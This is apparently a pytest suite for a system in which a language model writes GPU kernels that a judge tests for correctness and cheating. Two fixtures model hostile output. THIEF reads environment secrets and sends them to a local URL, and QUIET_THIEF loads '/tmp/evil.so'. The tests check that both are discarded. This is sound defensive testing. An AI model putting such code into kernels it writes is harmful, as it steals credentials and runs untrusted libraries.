"""The language model as an author: prompts, replies good and hostile, budgets, the whole loop with the judge."""

from __future__ import annotations

import importlib.util
import itertools
import os
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from nightshift.collectors.base import Temporary
from nightshift.kernels.candidate import Candidate
from nightshift.kernels.generate import llm as prompt
from nightshift.kernels.generate.base import Outcome, Proposal, Spent, Task
from nightshift.kernels.generate.llm import (
    BEGIN,
    END,
    RULES,
    LanguageModel,
    Reply,
    ReplyError,
    _why,
    connect,
    contrasts,
    feedback,
    kernel_of,
    messages,
)
from nightshift.kernels.generate.strategies import AuthorAllowance
from nightshift.kernels.judge.judge import Judge, Request
from nightshift.kernels.judge.probes.inputs import INTERPRETER
from nightshift.kernels.judge.race.contest import Pace
from nightshift.kernels.judge.verdict import Status
from nightshift.kernels.loop.executor import LocalExecutor
from nightshift.kernels.loop.ledger import Ledger, Provenance, read_run
from nightshift.kernels.loop.search import Ladder, Search, SearchBudget
from nightshift.kernels.ops.problems import named
from nightshift.kernels.problem import Case
from tests.kernels.generate.scripted_model import Answer, served

if importlib.util.find_spec("langchain_openai") is None:
    if os.environ.get("CI"):
        raise ImportError("CI needs the extra `llm`")
    pytest.skip("the extra `llm` is not installed", allow_module_level=True)

CASE = Case.of("float16", m=6, n=40)
TASK = Task(named("softmax"), CASE, floor_s=1e-6)
NOWHERE = Provenance("c0ffee", "none", "none")
GOOD = """import torch
import triton
import triton.language as tl


@triton.jit
def kernel(x, out, n, row, BLOCK: tl.constexpr):
    i = tl.program_id(0)
    c = tl.arange(0, BLOCK)
    v = tl.load(x + i * row + c, mask=c < n, other=-float("inf")).to(tl.float32)
    e = tl.exp(v - tl.max(v, 0))
    tl.store(out + i * n + c, (e / tl.sum(e, 0)).to(out.dtype.element_ty), mask=c < n)


def entry(x):
    m, n = x.shape
    out = torch.empty((m, n), dtype=x.dtype, device=x.device)
    kernel[(m,)](x, out, n, x.stride(0), BLOCK=triton.next_power_of_2(n))
    return out
"""
WRONG = GOOD.replace("tl.sum(e, 0)", "40.0")
THIEF = """import torch
import triton
import os
import subprocess
import sys


def entry(x):
    secrets = open("/proc/self/environ").read() + str(os.environ)
    torch.hub.download_url_to_file("http://127.0.0.1:9/" + secrets, "/tmp/x")
    return torch.softmax(x, -1)
"""
QUIET_THIEF = GOOD.replace("    m, n = x.shape", '    torch.ops.load_library("/tmp/evil.so")\n    m, n = x.shape')


def marked(code: str) -> str:
    return f"Here it is.\n{BEGIN}\n{code}{END}\n"


def outcome(code: str, seconds: float, status: Status = Status.slower, trial: int = 1) -> Outcome:
    made = Candidate(code, "entry", "triton", "own_kernel", "bitwise")
    return Outcome(Proposal(made, "llm"), status, "why", "first wrong element (3, 1)", seconds, trial=trial)


class Replies:
    """A chat that answers from a list and keeps what it was asked."""

    def __init__(self, *replies: Reply) -> None:
        self.replies = list(replies)
        self.asked: list[tuple[Sequence[tuple[str, str]], float]] = []

    def __call__(self, said: Sequence[tuple[str, str]], temperature: float) -> Reply:
        self.asked.append((said, temperature))
        return self.replies[min(len(self.asked), len(self.replies)) - 1]


def test_the_prompt_holds_rules_reference_shapes_roofline_exemplars_and_the_last_verdict() -> None:
    """Everything that the model can know is in it, in that order."""
    texts = [outcome(code, 1e-5).proposal.candidate for code in (GOOD, WRONG)]
    history = [
        Outcome(Proposal(texts[0], "softmax", {"warps": 4}), Status.faster, "", "", 1e-5),
        Outcome(Proposal(texts[1], "softmax", {"warps": 8}), Status.slower, "", "", 2e-5),
    ]
    mine = [outcome(GOOD + "# mine\n", float("nan"), Status.wrong)]
    said = messages(TASK, history, mine, 2)
    assert said[0] == ("system", RULES)
    text = said[1][1]
    for part in ("return softmax(x, dim=-1)", "(6, 40) float16", "1.0 µs", "2.00 times as fast", "warps 8 → 4"):
        assert part in text
    assert said[2][0] == "assistant"
    assert "wrong (why). first wrong element (3, 1)" in said[3][1]


def test_a_reply_may_be_cuda_with_a_declaration_of_its_own() -> None:
    """Only Triton's comment sign was known: CUDA C++ was taken for a Triton file without one."""
    text = (Path(__file__).parents[1] / "good" / "reduce_sum_cuda.cu").read_text()
    made = kernel_of(marked(text.replace("// needs_cuda", "// idea: a block a row\n// needs_cuda")), TASK)
    assert (made.language, len(made.launches)) == ("cuda", 1)
    assert prompt.idea_of(made.source) == "a block a row"


def test_contrasts_pair_fast_with_slow_and_never_use_what_failed() -> None:
    """Each slow half is used once, the largest ratio of alike texts first."""
    history = [outcome(GOOD, 1e-5), outcome(GOOD + "#\n", 3e-5), outcome(WRONG, float("nan"), Status.wrong)]
    found = contrasts(history, 3)
    assert [(c.fast.seconds, c.slow.seconds) for c in found] == [(1e-5, 3e-5)]
    assert "GB/s" in feedback(TASK, history[0])


def test_what_differs_is_looked_for_in_the_pairs_that_are_shown_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Of 24 attempts there are 276 pairs: asking all of them took seconds before each request."""
    asked: list[str] = []

    def why(fast: Outcome, slow: Outcome) -> str:
        asked.append(_why(fast, slow))
        return asked[-1]

    monkeypatch.setattr(prompt, "_why", why)
    many = [outcome(GOOD.replace("BLOCK", f"B{n}"), 1e-5 * 1.1**n, trial=n + 1) for n in range(24)]
    assert [pair.why for pair in contrasts(many, 2)] == asked
    assert len(asked) == 2
    assert asked[0].startswith("changed these lines:\n- def ")
    assert "\n+ def " in asked[0]
    assert "---" not in asked[0]
    assert "@@" not in asked[0]


@pytest.mark.parametrize(
    ("reply", "told"),
    [
        ("", "No file stands between"),
        ("I cannot help with that.", "No file stands between"),
        (f"{BEGIN}\nimport torch\ndef entry(", "cut off"),
        (f"{END}\n{GOOD}\n{BEGIN}", "No file stands between"),
        (marked(f"{BEGIN}\n{GOOD}"), "markers themselves"),
        ("```python\ndef entry(x): pass\n```\n```python\ndef entry(x): return x\n```", "2 blocks define entry"),
        (marked(GOOD) * 2, "or there are several"),
        (marked("  "), "No file stands between"),
        (f"<think>\n{marked(GOOD)}", "No file stands between"),
        ("x" * 70_000, "at most"),
        (marked("# nightshift candidate\n# problem: softmax\n# kind: divine\n" + GOOD), "malformed"),
        (marked(GOOD + "\ud800\n"), "malformed"),
    ],
)
def test_a_reply_without_one_whole_kernel_is_refused_in_words(reply: str, told: str) -> None:
    """Truncated, empty, doubled, nested or huge replies never become candidates, and the model is told why."""
    with pytest.raises(ReplyError, match=told):
        kernel_of(reply, TASK, truncated="def entry(" in reply)


DRAFT = marked("def entry(x): draft") + "```python\ndef entry(x): draft\n```\n"
ANSWERS = [
    marked(GOOD),
    marked(f"```python\n{GOOD}```\n"),
    f"So:\n```python\n{GOOD}```",
    f"```Python3\n{GOOD}```".replace("\n", "\r\n"),
    f"```python\n{marked(GOOD)}```",
    f"Between `{BEGIN}` and `{END}` stands the file.\n{marked(GOOD)}",
    f"<think>{DRAFT}</think>\n{marked(GOOD)}",
    f"{DRAFT}</think>\n```python\n{GOOD}```",  # its template had opened the tag
    f"<|channel|>analysis<|message|>{DRAFT}<|end|><|start|>assistant<|channel|>final<|message|>{marked(GOOD)}",
    "<think>" + "x" * 100_000 + f"</think>{marked(GOOD)}",
]


@pytest.mark.parametrize("reply", ANSWERS, ids=range(len(ANSWERS)))
def test_a_kernel_is_found_between_markers_or_in_the_only_block_and_answers_for_the_timed_case(reply: str) -> None:
    """Without a header of its own it is offered for exactly the case that was asked for."""
    made = kernel_of(reply, TASK)
    assert made.source == GOOD
    assert made.domain.admits(CASE.sizes, "float16", "contiguous")
    assert not made.domain.admits({"m": 7, "n": 40}, "float16", "contiguous")


def test_serial_refinement_comes_before_parallel_sampling() -> None:
    """One careful attempt at a time while that helps; several freer ones once it does not."""
    chat = Replies(Reply(marked(GOOD), 10))
    author = LanguageModel(chat, allowance=AuthorAllowance(serial=2, parallel=3))
    assert len(author.propose(TASK, [], 8)) == 1
    history = [outcome(GOOD, 1e-5, trial=1), outcome(GOOD + "#\n", 1.1e-5, trial=2), outcome(WRONG, 2e-5, trial=3)]
    assert len(author.propose(TASK, history, 8)) == 3
    assert [t for _, t in chat.asked] == [0.2, 0.9, 0.9, 0.9]


def test_of_versions_asked_for_at_once_those_that_came_are_judged_though_one_failed() -> None:
    history = [outcome(GOOD, 1e-5, trial=1), outcome(GOOD + "#\n", 1.1e-5, trial=2), outcome(WRONG, 2e-5, trial=3)]
    number = itertools.count()

    def chat(said: Sequence[tuple[str, str]], temperature: float) -> Reply:
        if next(number) == 1:
            raise Temporary("llm: overloaded")
        return Reply(marked(GOOD), 10)

    author = LanguageModel(chat, allowance=AuthorAllowance(serial=2, parallel=3))
    assert len(author.propose(TASK, history, 8)) == 2
    assert author.spent() == Spent(20, 3)

    def down(said: Sequence[tuple[str, str]], temperature: float) -> Reply:
        raise Temporary("llm: overloaded")

    with pytest.raises(Temporary, match="overloaded"):
        LanguageModel(down, allowance=AuthorAllowance(serial=2, parallel=3)).propose(TASK, history, 8)


def test_a_reply_without_a_kernel_is_asked_about_again_within_the_budget() -> None:
    """The model hears what was wrong; its tokens and calls are counted; at the limit there is nothing more."""
    chat = Replies(Reply("Sorry?", 30), Reply(marked(GOOD), 40), Reply("Sorry?", 50))
    author = LanguageModel(chat, allowance=AuthorAllowance(repairs=1, tokens=150))
    made = author.propose(TASK, [], 1)
    assert [p.tokens for p in made] == [70]
    assert chat.asked[1][0][-1][1].startswith("No file stands between")
    assert list(author.propose(TASK, [], 1)) == []
    assert author.spent().calls == 4
    assert list(author.propose(TASK, [], 1)) == []
    assert author.spent().calls == 4


def test_a_model_that_repeats_itself_is_told_so_instead_of_left_out() -> None:
    """A search takes an author that has nothing new for one that is done."""
    before = Outcome(Proposal(kernel_of(marked(GOOD), TASK), "llm"), Status.slower, "why", "", 1e-5, trial=1)
    chat = Replies(Reply(marked(GOOD), 10), Reply(marked(GOOD + "# better\n"), 10))
    author = LanguageModel(chat)
    (made,) = author.propose(TASK, [before], 1)
    assert made.candidate.source == GOOD + "# better\n"
    assert made.tokens == 20
    assert "judged already" in chat.asked[1][0][-1][1]
    stubborn = LanguageModel(Replies(Reply(marked(GOOD), 10)), allowance=AuthorAllowance(repairs=2))
    assert list(stubborn.propose(TASK, [before], 1)) == []
    assert stubborn.spent() == Spent(30, 3)


def test_what_an_earlier_process_spent_counts_after_a_restart() -> None:
    """The ledger's tokens are part of the budget."""
    old = Outcome(Proposal(outcome(GOOD, 1e-5).proposal.candidate, "llm", tokens=400), Status.slower, "", "", 1e-5)
    author = LanguageModel(Replies(Reply(marked(GOOD), 1)), allowance=AuthorAllowance(tokens=400))
    assert list(author.propose(TASK, [old], 1)) == []


def test_replies_without_a_kernel_count_after_a_restart_too(tmp_path: Path) -> None:
    """A worker that was preempted again and again would have spent the whole allowance each time."""
    account, allowance = tmp_path / "task" / "model.jsonl", AuthorAllowance(tokens=150, calls=4, repairs=0)
    first = LanguageModel(Replies(Reply("Sorry?", 60)), allowance=allowance, account=account)
    assert list(first.propose(TASK, [], 1)) == []
    with account.open("a") as file:
        file.write('{"tok')  # killed while it wrote
    again = LanguageModel(Replies(Reply("Sorry?", 90)), allowance=allowance, account=account)
    assert (again.spent().tokens, again.spent().calls) == (60, 2)
    assert list(again.propose(TASK, [], 1)) == []
    chat = Replies(Reply(marked(GOOD), 1))
    last = LanguageModel(chat, allowance=allowance, account=account)
    assert last.spent().tokens == 150
    assert list(last.propose(TASK, [], 1)) == []
    assert not chat.asked


@pytest.mark.full
def test_the_whole_loop_with_a_scripted_model_keeps_the_honest_kernel_and_refuses_the_hostile(
    tmp_path: Path, interpreting_judge: Judge
) -> None:
    """Wrong results, theft and library calls end as discards with their reasons; no secret reaches a prompt."""
    answers = [
        Answer("def entry(", finish="length"), Answer(marked(WRONG)), Answer(marked(THIEF)),
        Answer(marked(QUIET_THIEF)), Answer(marked(f"# {RULES.splitlines()[0]}\n{GOOD}")),
        Answer(marked(GOOD)), Answer("I am done."),
    ]  # fmt: skip
    pace = Pace(min_rounds=2, max_rounds=2, round_s=1e-4, max_calls=3, max_slots=2)
    os.environ["NIGHTSHIFT_TEST_KEY"] = "sk-secret-of-the-test"
    try:
        with served(answers) as (url, script), Ledger(tmp_path) as ledger:
            author = LanguageModel(
                connect("scripted", url, "NIGHTSHIFT_TEST_KEY"), allowance=AuthorAllowance(calls=9)
            )
            search = Search(
                TASK, [author], LocalExecutor([interpreting_judge], 1), ledger, NOWHERE,
                SearchBudget(trials=6, batch=1, roof_share=2.0),
                Ladder((pace,), INTERPRETER, Request(INTERPRETER, None)),
            )  # fmt: skip
            result = search.run(certify=False)
    finally:
        del os.environ["NIGHTSHIFT_TEST_KEY"]
    _, lines = read_run(tmp_path)
    decisions = [(line.decision, line.reason) for line in lines]
    assert decisions[0][0] == "discard"
    assert decisions[1] in (("discard", "static_refusal"), ("discard", "library_call"))
    assert decisions[2] == ("discard", "library_call")
    assert decisions[3][0] == "keep"
    assert lines[0].tokens == 300
    assert result.best is not None
    assert "entry" in result.best.proposal.candidate.source
    asked = str(script.requests)
    assert "sk-secret" not in asked
    assert "sk-secret" not in (tmp_path / "ledger.jsonl").read_text()
    assert "The judge refused it: cheat" in asked


FIXED_DRAWS = """
from nightshift.kernels.judge import judge
judge.fresh = bytes
from nightshift.agent.__main__ import main
main()
"""


@pytest.mark.full
def test_the_command_searches_with_a_served_model_and_keeps_commits(tmp_path: Path) -> None:
    """`kernels optimize --llm … --git`: the model's kernel is a trial of the ledger and a commit of the run."""
    with served([Answer(marked(GOOD)), Answer("no more")]) as (url, _):
        words = "kernels optimize --problem softmax --device cpu --trials 3 --git --llm scripted --llm-url"
        command = [sys.executable, "-c", FIXED_DRAWS, *words.split(), url]
        command += ["--case", "float16 m=6 n=40", "--run", "run"]
        root = str(Path(__file__).parents[3])
        environment = {**os.environ, "PYTHONPATH": root}
        done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    (folder,) = (tmp_path / "run" / "tasks").iterdir()
    authors = [line.generator for line in read_run(folder)[1]]
    assert "llm" in authors
    log = subprocess.run(
        ["git", "log", "--format=%s"], cwd=folder / "git", capture_output=True, text=True, check=True
    ).stdout
    assert all(f"Trial {number}:" in log for number in range(1, len(authors) + 1))
